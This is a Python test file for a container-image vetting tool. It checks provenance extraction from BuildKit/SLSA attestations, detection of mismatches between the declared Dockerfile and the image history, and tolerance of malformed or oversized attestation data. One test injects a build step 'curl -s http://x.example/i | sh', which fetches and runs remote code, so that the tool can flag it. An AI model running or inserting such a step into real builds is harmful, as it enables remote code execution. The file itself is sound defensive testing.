"""Provenance extraction: BuildKit attestations (SLSA v0.2/v1, Statement v0.1/v1, min/max), history, labels."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.support import buildkit
from tests.support.oci import tar_layer, write_image_layout
from workers.domain import ScanReport, Verdict, parse_digest
from workers.pipeline import Vetter, load_scanners
from workers.provenance import collect
from workers.provenance.extract import DOCKERFILE_MISMATCH_RULE, StatementInput, build_record
from workers.settings import PROJECT_ROOT
from workers.sources import OciLayoutSource

RULES = PROJECT_ROOT / "rules"


@pytest.fixture(scope="module")
def vetter() -> Vetter:
    return Vetter(load_scanners(RULES))


def vet(vetter: Vetter, path: Path) -> ScanReport:
    return vetter.vet(OciLayoutSource(path, "latest"), "latest")


def only_attestation(report: ScanReport) -> dict[str, Any]:
    attestations = report.provenance["attestations"]
    assert len(attestations) == 1, report.provenance["problems"]
    result: dict[str, Any] = attestations[0]
    return result


@pytest.mark.parametrize(
    ("make", "artifact", "statement_type", "predicate_type"),
    [
        (buildkit.provenance_v02, True, "https://in-toto.io/Statement/v0.1", buildkit.SLSA_V02),
        (buildkit.provenance_v02, False, "https://in-toto.io/Statement/v0.1", buildkit.SLSA_V02),
        (buildkit.provenance_v1, True, "https://in-toto.io/Statement/v1", buildkit.SLSA_V1),
        (buildkit.provenance_v1, False, "https://in-toto.io/Statement/v1", buildkit.SLSA_V1),
    ],
    ids=["v0.2-artifact", "v0.2-image-config", "v1-artifact", "v1-image-config"],
)
def test_max_mode_provenance_gives_commit_dockerfile_steps_and_materials(
    vetter: Vetter, tmp_path: Path, make: Any, artifact: bool, statement_type: str, predicate_type: str
) -> None:
    index_digest, platform_digest = buildkit.write_buildkit_layout(tmp_path, make, artifact=artifact)
    report = vet(vetter, tmp_path)
    record = report.provenance

    assert record["subject"] == {"digest": index_digest, "media_type": "application/vnd.oci.image.index.v1+json"}
    assert record["source"] == {
        "repository": buildkit.CONTEXT_URI,
        "commit": buildkit.COMMIT,
        "from": "buildkit-attestation configSource",
    }
    assert record["builder"] == buildkit.BUILDER
    assert record["dockerfile"]["path"] == buildkit.DOCKERFILE_PATH
    assert record["dockerfile"]["sha256"] == buildkit.dockerfile_sha256()
    assert record["dockerfile"]["matches_history"] is True
    assert record["dockerfile"]["mismatches"] == []
    assert not [f for f in report.findings if f.rule == DOCKERFILE_MISMATCH_RULE]

    attestation = only_attestation(report)
    assert attestation["origin"] == "buildkit-attestation"
    assert attestation["signed"] is False
    assert attestation["statement_type"] == statement_type
    assert attestation["predicate_type"] == predicate_type
    assert attestation["mode"] == "max"
    assert attestation["build_args"] == {"VERSION": "1.2"}
    assert attestation["frontend"] == "dockerfile.v0"
    assert attestation["vcs"] == {"source": buildkit.REPO_URL, "revision": buildkit.COMMIT, "verified": False}
    assert {"uri": buildkit.BASE_PURL, "digest": {"sha256": buildkit.BASE_DIGEST}} in attestation["materials"]
    assert {"uri": buildkit.CONTEXT_URI, "digest": {"sha1": buildkit.COMMIT}} in attestation["materials"]
    assert attestation["subject"][0]["digest"] == {"sha256": platform_digest.split(":")[1]}

    (platform,) = record["platforms"]
    assert platform["manifest"] == platform_digest
    assert platform["platform"] == "linux/amd64"
    assert platform["history"]["status"] == "aligned"
    steps = [layer["step"] for layer in platform["layers"]]
    assert steps == [
        buildkit.HISTORY[0]["created_by"],
        buildkit.HISTORY[2]["created_by"],
        buildkit.HISTORY[3]["created_by"],
    ]
    assert all(layer["diff_id"].startswith("sha256:") for layer in platform["layers"])
    assert [s["layer"] for s in platform["history"]["steps"]] == [0, None, 1, 2, None, None, None]
    assert record["image"]["revision"] == buildkit.COMMIT
    assert record["image_origin"]["revision"] == "config label org.opencontainers.image.revision"
    assert record["image"]["base_name"] == "docker.io/library/debian:bookworm-slim"
    assert record["missing"] == []
    assert record["problems"] == []
    # The statement read is an input of the verdict.
    assert record["inputs"][0]["predicate_type"] == predicate_type


@pytest.mark.parametrize("make", [buildkit.provenance_v02, buildkit.provenance_v1], ids=["v0.2", "v1"])
def test_min_mode_has_commit_and_materials_but_no_dockerfile_text_or_args(
    vetter: Vetter, tmp_path: Path, make: Any
) -> None:
    buildkit.write_buildkit_layout(tmp_path, lambda subject: make(subject, mode="min"))
    report = vet(vetter, tmp_path)
    attestation = only_attestation(report)
    assert attestation["mode"] == "min"
    assert attestation["build_args"] == {}
    assert attestation["git_commit"] == buildkit.COMMIT
    assert attestation["dockerfile_path"] == buildkit.DOCKERFILE_PATH
    assert attestation["dockerfile"] is None
    assert len(attestation["materials"]) == 3
    record = report.provenance
    assert record["dockerfile"] == {"path": buildkit.DOCKERFILE_PATH}
    assert record["missing"] == ["Dockerfile text (max-mode provenance)"]


def test_a_dockerfile_that_does_not_build_the_history_is_a_finding(vetter: Vetter, tmp_path: Path) -> None:
    # The declared Dockerfile runs `make install`; the image's history ran something else in that place.
    declared = buildkit.DOCKERFILE.replace(
        "apt-get update && \\\n    apt-get install -y --no-install-recommends ca-certificates", "make install"
    )
    buildkit.write_buildkit_layout(tmp_path, lambda subject: buildkit.provenance_v1(subject, dockerfile=declared))
    report = vet(vetter, tmp_path)

    dockerfile = report.provenance["dockerfile"]
    assert dockerfile["sha256"] == buildkit.dockerfile_sha256(declared)
    assert dockerfile["matches_history"] is False
    (mismatch,) = dockerfile["mismatches"]
    assert "line 10" in mismatch["message"]
    assert "make install" in mismatch["message"]
    (finding,) = [f for f in report.findings if f.rule == DOCKERFILE_MISMATCH_RULE]
    assert finding.step == buildkit.HISTORY[2]["created_by"]
    platform = report.platforms[0]
    assert finding.layer == platform.layers[1].digest  # the layer that RUN made
    assert finding.platform == "linux/amd64"
    assert report.verdict is Verdict.SUSPICIOUS


def test_an_injected_step_shifts_the_history_and_is_reported(vetter: Vetter, tmp_path: Path) -> None:
    history = [*buildkit.HISTORY]
    history.insert(
        4,
        {
            "created_by": "RUN /bin/sh -c curl -s http://x.example/i | sh # buildkit",
            "comment": "buildkit.dockerfile.v0",
        },
    )
    image_layers = [*buildkit.layers(), tar_layer({"tmp/i": b"x"})]
    buildkit.write_buildkit_layout(
        tmp_path, buildkit.provenance_v02, image_config=buildkit.config(history), image_layers=image_layers
    )
    report = vet(vetter, tmp_path)
    assert report.provenance["dockerfile"]["matches_history"] is False
    assert [f for f in report.findings if f.rule == DOCKERFILE_MISMATCH_RULE]


def test_history_that_does_not_align_with_the_layers_is_unavailable_not_guessed(vetter: Vetter, tmp_path: Path) -> None:
    history = [h for h in buildkit.HISTORY if h["created_by"] != "COPY /out/app /app # buildkit"]  # 2 for 3 layers
    buildkit.write_buildkit_layout(tmp_path, None, image_config=buildkit.config(history))
    report = vet(vetter, tmp_path)
    (platform,) = report.provenance["platforms"]
    assert platform["history"]["status"] == "unavailable"
    assert platform["history"]["reason"] == "history has 2 layer-producing entries for 3 layers"
    assert [layer["step"] for layer in platform["layers"]] == [None, None, None]
    assert all(step["layer"] is None for step in platform["history"]["steps"])
    assert "build steps aligned to layers" in report.provenance["missing"]


def test_an_image_without_provenance_gets_a_complete_record_saying_what_is_missing(
    vetter: Vetter, tmp_path: Path
) -> None:
    digest = write_image_layout(tmp_path, [tar_layer({"bin/tool": b"#!/bin/sh\necho hi\n"})])
    report = vet(vetter, tmp_path)
    record = report.provenance
    assert record["subject"]["digest"] == digest
    (platform,) = record["platforms"]
    assert platform["manifest"] == digest
    assert platform["config"].startswith("sha256:")
    assert platform["layers"][0]["diff_id"].startswith("sha256:")
    assert platform["history"]["status"] == "aligned"  # the layout helper writes one entry per layer
    assert record["attestations"] == []
    assert record["source"] == {"repository": None, "commit": None, "from": None}
    assert record["missing"] == [
        "build provenance attestation (SLSA v0.2/v1, BuildKit or signed)",
        "source repository",
        "git commit",
        "Dockerfile path",
        "Dockerfile text (max-mode provenance)",
        "materials / resolved dependencies",
    ]
    json.dumps(record)  # stored as JSON


def test_labels_and_label_schema_fill_in_source_and_revision(vetter: Vetter, tmp_path: Path) -> None:
    labels = {"org.label-schema.vcs-url": "https://git.example/legacy", "org.label-schema.vcs-ref": "abc123"}
    buildkit.write_buildkit_layout(tmp_path, None, image_config=buildkit.config(labels=labels))
    record = vet(vetter, tmp_path).provenance
    assert record["source"] == {
        "repository": "https://git.example/legacy",
        "commit": "abc123",
        "from": "label-schema org.label-schema.vcs-ref",
    }
    assert "build provenance attestation (SLSA v0.2/v1, BuildKit or signed)" in record["missing"]


def _deep(levels: int) -> bytes:
    return (
        b'{"_type":"https://in-toto.io/Statement/v1","predicateType":"https://slsa.dev/provenance/v1","predicate":'
        + (b'{"a":' * levels)
        + b"1"
        + b"}" * levels
        + b"}"
    )


HOSTILE: dict[str, Any] = {
    "not-json": lambda subject: b"{not json",
    "not-utf8": lambda subject: b'{"_type": "\xff"}',
    "deep-nesting": lambda subject: _deep(5000),
    "array-statement": lambda subject: b"[1, 2, 3]",
    "wrong-statement-type": lambda subject: {**buildkit.provenance_v1(subject), "_type": 7},
    "predicate-is-a-list": lambda subject: {**buildkit.provenance_v1(subject), "predicate": [1, 2]},
    "wrong-field-types": lambda subject: {
        **buildkit.provenance_v02(subject),
        "predicate": {
            "builder": {"id": 42},
            "materials": "everything",
            "invocation": {"configSource": ["x"], "parameters": {"args": "nope"}},
            "metadata": {"https://mobyproject.org/buildkit@v1#metadata": {"source": {"infos": [{"data": "!!!"}]}}},
        },
    },
    "duplicate-keys": lambda subject: b'{"_type":"https://in-toto.io/Statement/v1","_type":"x"}',
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_provenance_is_a_recorded_reason_never_a_crash(vetter: Vetter, tmp_path: Path, name: str) -> None:
    buildkit.write_buildkit_layout(tmp_path, HOSTILE[name])
    report = vet(vetter, tmp_path)
    record = report.provenance
    assert record["schema"] == "https://tollgate.dev/provenance-record/v1"
    assert len(record["platforms"]) == 1
    if name == "wrong-field-types":
        (attestation,) = record["attestations"]
        assert attestation["builder"] is None
        assert attestation["materials"] == []
        assert any("materials are not a list" in p for p in record["problems"])
        assert any("not valid base64" in p for p in record["problems"])
    else:
        assert record["attestations"] == []
        assert record["problems"], name
    json.dumps(record)


def test_an_oversized_attestation_is_not_read(vetter: Vetter, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(collect, "MAX_ATTESTATION_BYTES", 4096)
    padded = lambda subject: {**buildkit.provenance_v1(subject), "padding": "x" * 8192}  # noqa: E731
    buildkit.write_buildkit_layout(tmp_path, padded)
    record = vet(vetter, tmp_path).provenance
    assert record["attestations"] == []
    assert any("over 4096" in p for p in record["problems"])


def test_a_huge_materials_list_is_bounded(vetter: Vetter, tmp_path: Path) -> None:
    def flood(subject: str) -> dict[str, Any]:
        statement = buildkit.provenance_v1(subject)
        statement["predicate"]["buildDefinition"]["resolvedDependencies"] = [
            {"uri": f"pkg:x/{i}", "digest": {"sha256": "d" * 64}} for i in range(5000)
        ]
        return statement

    buildkit.write_buildkit_layout(tmp_path, flood)
    record = vet(vetter, tmp_path).provenance
    assert len(record["attestations"][0]["materials"]) == 500
    assert any("5000 materials" in p for p in record["problems"])


def test_a_verified_signed_attestation_is_provenance_too() -> None:
    statement = buildkit.provenance_v1("sha256:" + "e" * 64, mode="min")
    offered = StatementInput(
        origin="signed-attestation",
        where="sha256-" + "e" * 64 + ".att@sha256:" + "f" * 64 + "#0",
        statement=statement,
        signer="key ci (ecdsa-p256)",
    )
    result = build_record(
        parse_digest("sha256:" + "e" * 64),
        "application/vnd.oci.image.manifest.v1+json",
        [],
        statements=[offered],
    )
    (attestation,) = result.record["attestations"]
    assert attestation["signed"] is True
    assert attestation["signer"] == "key ci (ecdsa-p256)"
    assert result.record["source"]["commit"] == buildkit.COMMIT
    assert result.record["source"]["from"] == "signed-attestation configSource"
